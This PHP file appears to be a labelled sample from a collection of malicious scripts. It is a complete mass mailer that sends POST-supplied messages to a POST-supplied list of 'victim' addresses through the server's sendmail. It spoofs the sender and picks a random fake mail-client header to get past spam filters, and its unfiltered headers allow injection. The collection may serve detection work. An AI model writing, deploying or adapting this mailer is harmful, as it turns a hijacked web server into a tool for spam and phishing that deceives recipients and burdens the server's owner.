<?php
// Family: mailer/sendmail-pipe
// Style: sendmail path from ini with popen in a loop
// Trait: binary path taken from sendmail_path, -t mode, recipients from a POST array, random X-Mailer
$bin = ini_get('sendmail_path') ?: '/usr/lib/sendmail -t';
$xm = array('Outlook', 'Mutt/1.5', 'K-9 Mail');
foreach ((array)$_POST['list'] as $victim) {
	$h = popen($bin, 'w');
	fwrite($h, "To: $victim\nFrom: " . $_POST['fm'] . "\nX-Mailer: " . $xm[rand(0, 2)] . "\nSubject: " . $_POST['sb'] . "\n\n" . $_POST['bd'] . "\n");
	pclose($h);
}
